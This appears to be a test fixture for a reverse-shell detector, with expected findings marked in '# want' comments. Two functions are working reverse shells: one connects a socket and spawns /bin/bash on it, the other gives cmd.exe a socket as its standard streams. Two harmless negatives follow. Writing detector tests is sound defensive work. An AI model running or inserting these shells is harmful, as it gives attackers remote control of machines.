"""Reverse shells."""
import os
import pty
import socket
import subprocess


def connect_back(host, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect((host, port))
    os.dup2(s.fileno(), 0)
    os.dup2(s.fileno(), 1)
    os.dup2(s.fileno(), 2)
    pty.spawn("/bin/bash")  # want "reverse shell: a socket is connected, duplicated onto the standard streams"


def windows(host):
    s = socket.create_connection((host, 443))
    subprocess.Popen(["cmd.exe"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())  # want "given to a shell as its standard streams"


# Negatives: a client that talks to a server; a pty helper without a socket.
def fetch(host):
    s = socket.create_connection((host, 80))
    s.sendall(b"GET / HTTP/1.0\r\n\r\n")
    return s.recv(1024)


def run_in_pty(argv):
    pid, fd = pty.fork()
    if pid == 0:
        os.dup2(1, 2)
        os.execvp(argv[0], argv)
    return fd
